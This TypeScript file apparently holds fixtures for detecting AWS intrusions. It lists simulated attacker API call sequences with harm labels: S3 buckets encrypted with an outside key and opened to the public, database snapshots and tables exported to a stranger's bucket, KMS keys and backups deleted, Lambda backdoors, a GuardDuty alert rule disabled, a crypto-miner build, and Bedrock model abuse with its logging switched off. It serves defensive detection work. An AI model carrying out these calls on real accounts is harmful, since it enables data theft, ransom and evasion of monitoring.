import { AGENTS, HOME, role, STRANGER, user, type Intrusion } from '../step';

const open = (action: string) =>
  JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: action, Resource: '*' }] });

/** Intrusions that are about data, keys and code. */
export const data: readonly Intrusion[] = [
  {
    name: 'a bucket encrypted with a key only the stranger has',
    as: user('app-s3', AGENTS.boto),
    steps: [
      { call: 's3:ListBuckets' },
      { call: 's3:GetBucketVersioning', request: { bucketName: 'customer-files' } },
      { call: 's3:PutBucketVersioning', request: { bucketName: 'customer-files', VersioningConfiguration: { Status: 'Suspended' } }, harm: 'versions of objects no longer kept' },
      {
        call: 's3:CopyObject',
        request: { bucketName: 'customer-files', key: 'a.pdf', 'x-amz-copy-source': 'customer-files/a.pdf', 'x-amz-server-side-encryption-customer-algorithm': 'AES256' },
        more: { managementEvent: false, eventCategory: 'Data', additionalEventData: { SSEApplied: 'SSE_C' } },
        harm: 'an object encrypted with a key from outside',
      },
      {
        call: 's3:PutBucketLifecycle',
        request: { bucketName: 'customer-files', LifecycleConfiguration: { Rule: { ID: 'x', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 7 } } } },
        harm: 'objects set to expire within days',
      },
      { call: 's3:DeleteBucketPolicy', request: { bucketName: 'customer-files' } },
      { call: 's3:PutBucketPolicy', request: { bucketName: 'customer-files', bucketPolicy: JSON.parse(open('s3:*')) as unknown }, harm: 'a bucket opened to everyone by its policy' },
      { call: 's3:DeleteBucketPublicAccessBlock', request: { bucketName: 'customer-files', publicAccessBlock: '' }, harm: 'the block of public access taken away' },
      { call: 's3:PutBucketAcl', request: { bucketName: 'customer-files', 'x-amz-acl': 'public-read-write' }, harm: 'a bucket opened to everyone by its ACL' },
    ],
  },
  {
    name: 'databases copied out',
    as: role('dba', 'oscar', '203.0.113.8'),
    steps: [
      { call: 'rds:DescribeDBInstances', request: {} },
      { call: 'rds:CreateDBSnapshot', request: { dBInstanceIdentifier: 'orders', dBSnapshotIdentifier: 'orders-x' } },
      { call: 'rds:ModifyDBSnapshotAttribute', request: { dBSnapshotIdentifier: 'orders-x', attributeName: 'restore', valuesToAdd: ['all'] }, harm: 'a database snapshot made public' },
      { call: 'rds:StartExportTask', request: { exportTaskIdentifier: 'x', sourceArn: `arn:aws:rds:us-east-1:${HOME}:snapshot:orders-x`, s3BucketName: 'stranger-drop' }, harm: 'a database snapshot written to a bucket' },
      { call: 'rds:ModifyDBInstance', request: { dBInstanceIdentifier: 'orders', masterUserPassword: '****', publiclyAccessible: true, applyImmediately: true }, harm: 'a database opened to the Internet with a new password' },
      { call: 'rds:DeleteDBCluster', request: { dBClusterIdentifier: 'orders', skipFinalSnapshot: true }, harm: 'a database deleted without a last snapshot' },
      { call: 'dynamodb:ExportTableToPointInTime', request: { tableArn: `arn:aws:dynamodb:us-east-1:${HOME}:table/users`, s3Bucket: 'stranger-drop', s3BucketOwner: STRANGER }, harm: 'a table written to a bucket' },
      { call: 'backup:DeleteBackupVault', request: { backupVaultName: 'main' }, harm: 'a vault of backups deleted' },
      { call: 'kms:ScheduleKeyDeletion', request: { keyId: `arn:aws:kms:us-east-1:${HOME}:key/1111`, pendingWindowInDays: 7 }, harm: 'a key set to be deleted' },
      { call: 'kms:PutKeyPolicy', request: { keyId: `arn:aws:kms:us-east-1:${HOME}:key/2222`, policyName: 'default', policy: open('kms:*') }, harm: 'a key opened to everyone' },
      { call: 'kms:DisableKey', request: { keyId: `arn:aws:kms:us-east-1:${HOME}:key/3333` }, harm: 'a key switched off' },
    ],
  },
  {
    name: 'code in functions that lets somebody come back',
    as: role('developer', 'trent', '203.0.113.33'),
    steps: [
      { call: 'lambda:UpdateFunctionCode20150331v2', request: { functionName: 'checkout', dryRun: false, publish: false, zipFile: '<redacted>' }, harm: 'a function’s code replaced' },
      { call: 'lambda:UpdateFunctionConfiguration20150331v2', request: { functionName: 'checkout', layers: [`arn:aws:lambda:us-east-1:${STRANGER}:layer:x:1`] }, harm: 'a layer of a strange account put under a function' },
      { call: 'lambda:AddPermission20150331v2', request: { functionName: 'checkout', statementId: 'x', action: 'lambda:InvokeFunction', principal: STRANGER }, harm: 'a strange account may call a function' },
      { call: 'lambda:CreateFunctionUrlConfig', request: { functionName: 'checkout', authType: 'NONE' }, harm: 'a URL without any check for a function' },
      { call: 'events:PutRule', request: { name: 'on-user-delete', eventPattern: '{"detail":{"eventName":["DeleteUser"]}}' } },
      { call: 'events:DisableRule', request: { name: 'guardduty-to-soc' }, harm: 'a rule that forwards alerts switched off' },
      { call: 'ecr:SetRepositoryPolicy', request: { repositoryName: 'base', policyText: open('ecr:*') }, harm: 'a repository of images opened to everyone' },
      { call: 'secretsmanager:PutResourcePolicy', request: { secretId: 'prod/db', resourcePolicy: open('secretsmanager:GetSecretValue') }, harm: 'a secret opened to everyone' },
      { call: 'sns:Subscribe', request: { topicArn: `arn:aws:sns:us-east-1:${HOME}:alerts`, protocol: 'https', endpoint: 'https://example.net/x' } },
      { call: 'codebuild:CreateProject', request: { name: 'x', source: { type: 'NO_SOURCE', buildspec: 'version: 0.2\nphases: {build: {commands: [./xmrig]}}' }, environment: { computeType: 'BUILD_GENERAL1_2XLARGE' } } },
    ],
  },
  {
    name: 'language models at somebody else’s cost',
    as: user('bedrock-dev', AGENTS.boto),
    steps: [
      { call: 'bedrock:GetModelInvocationLoggingConfiguration', harm: 'somebody looked whether calls of models are logged' },
      { call: 'bedrock:InvokeModel', request: { modelId: 'anthropic.claude-3-opus-20240229-v1:0' }, error: 'ValidationException', message: 'max_tokens_to_sample: -1' },
      { call: 'bedrock:InvokeModel', request: { modelId: 'anthropic.claude-3-opus-20240229-v1:0' }, error: 'AccessDenied', harm: 'a model tried without permission' },
      { call: 'bedrock:PutUseCaseForModelAccess', request: { formData: 'e30=' }, harm: 'access to models asked for' },
      { call: 'bedrock:CreateFoundationModelAgreement', request: { modelId: 'anthropic.claude-3-opus-20240229-v1:0', offerToken: 'x' }, harm: 'an agreement for a model signed' },
      { call: 'bedrock:PutFoundationModelEntitlement', request: { modelId: 'anthropic.claude-3-opus-20240229-v1:0' }, harm: 'a model switched on for the account' },
      { call: 'bedrock:DeleteModelInvocationLoggingConfiguration', harm: 'the logging of models switched off' },
    ],
  },
];
